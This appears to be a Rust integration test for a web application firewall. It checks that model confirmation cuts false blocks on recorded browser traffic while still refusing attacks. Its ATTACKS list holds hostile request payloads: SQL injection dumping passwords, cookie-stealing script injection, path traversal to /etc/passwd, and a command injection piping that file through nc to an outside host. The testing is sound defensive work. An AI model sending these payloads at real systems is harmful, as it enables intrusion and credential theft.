//! The real daemon with the Core Rule Set and its models: `inspect.confirm = "models"` lets pass what rules alone would refuse
//! of ordinary browsing, and no attack. Needs ONNX Runtime, a Core Rule Set and the recorded requests, and says so when it skips.

use std::{
    fs::File,
    io::{BufRead as _, BufReader},
    path::{Path, PathBuf},
};

use anyhow::{Context as _, Result, ensure};
use base64::{Engine as _, engine::general_purpose::STANDARD};
use flate2::read::MultiGzDecoder;
use qantra_tests::{client::Client, daemon::Daemon, leaky::Leaky, onnx};

/// Of the recorded requests each so many-th, so that the test is a short one.
const EVERY: usize = 6;

/// Attacks that rules score and every model should know.
const ATTACKS: [&str; 5] = [
    "/?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
    "/?x=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/?file=../../../../../../etc/passwd",
    "/?cmd=%3Bcat%20/etc/passwd%7Cnc%20198.51.100.9%204444",
    "/?id=1%27%20AND%20SLEEP(5)%20AND%20%271%27=%271",
];

fn beside(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..").join(path)
}

/// What browsers sent, byte by byte.
fn recorded() -> Result<Vec<Vec<u8>>> {
    let file = File::open(beside("../shared/data/http/train.jsonl.gz"))?;
    let mut requests = Vec::new();
    for line in BufReader::new(MultiGzDecoder::new(file)).lines() {
        let row: serde_json::Value = serde_json::from_str(&line?)?;
        if row["source"] == "hars" {
            requests.push(STANDARD.decode(row["raw"].as_str().context("a request")?)?);
        }
    }
    Ok(requests.into_iter().step_by(EVERY).collect())
}

/// The request as if it came through a load balancer from a client of its own: nobody is refused for what others sent.
fn sent_by(client: usize, request: &[u8]) -> Vec<u8> {
    let line = request.iter().position(|byte| *byte == b'\n').map_or(0, |at| at + 1);
    let address =
        format!("X-Forwarded-For: 198.{}.{}.{}\r\n", 18 + client / 62_500, client / 250 % 250, client % 250 + 1);
    [&request[..line], address.as_bytes(), &request[line..]].concat()
}

/// The statuses of requests, each on a connection of its own.
fn statuses(daemon: &Daemon, from: usize, requests: &[Vec<u8>]) -> Result<Vec<u16>> {
    let ask = |(n, request): (usize, &Vec<u8>)| {
        let mut client = Client::connect(daemon.address)?;
        client.send(&sent_by(from + n, request))?;
        Ok(client.answer()?.status)
    };
    requests.iter().enumerate().map(ask).collect()
}

#[test]
fn models_confirm_what_scores_refuse() -> Result<()> {
    let Some(library) = onnx::library() else { return Ok(()) };
    let crs = beside("../shared/crs");
    if !crs.join("rules").is_dir() || !beside("../shared/data").is_dir() {
        eprintln!("skipped: {} or the data beside it is missing", crs.display());
        return Ok(());
    }
    let honest = recorded()?;
    let attacks = ATTACKS.map(|target| {
        format!(
            "GET {target} HTTP/1.1\r\nHost: shop\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n\r\n"
        )
        .into_bytes()
    });
    let origin = Leaky::start()?;
    let models = format!("dir = {:?}\nruntime = {library:?}\ndeadline_ms = 5000", beside("models").canonicalize()?);
    let sites = origin.sites(&[("shop", "")]).replace("[\"shop\"]", "[\"*\"]");
    let mut refused = Vec::new();
    for confirm in ["none", "models"] {
        let inspect =
            format!("ruleset = \"crs\"\ncrs_dir = {crs:?}\nparanoia = 1\nconfirm = \"{confirm}\"\ndeadline_ms = 5000");
        let daemon = Daemon::with_models(&models, "", &inspect, &sites)?;
        let of_honest = statuses(&daemon, 0, &honest)?.iter().filter(|status| **status == 403).count();
        println!("confirm = {confirm}: {of_honest} of {} recorded requests refused", honest.len());
        refused.push(of_honest);
        let of_attacks = statuses(&daemon, honest.len(), &attacks)?;
        ensure!(of_attacks.iter().all(|status| *status == 403), "confirm = {confirm}: {of_attacks:?} for {ATTACKS:?}");
    }
    ensure!(
        refused[0] > honest.len() / 50,
        "rules alone refuse {} of {}: nothing to confirm",
        refused[0],
        honest.len()
    );
    ensure!(refused[1] * 4 <= refused[0], "rules alone refuse {}, with the models' word {}", refused[0], refused[1]);
    Ok(())
}
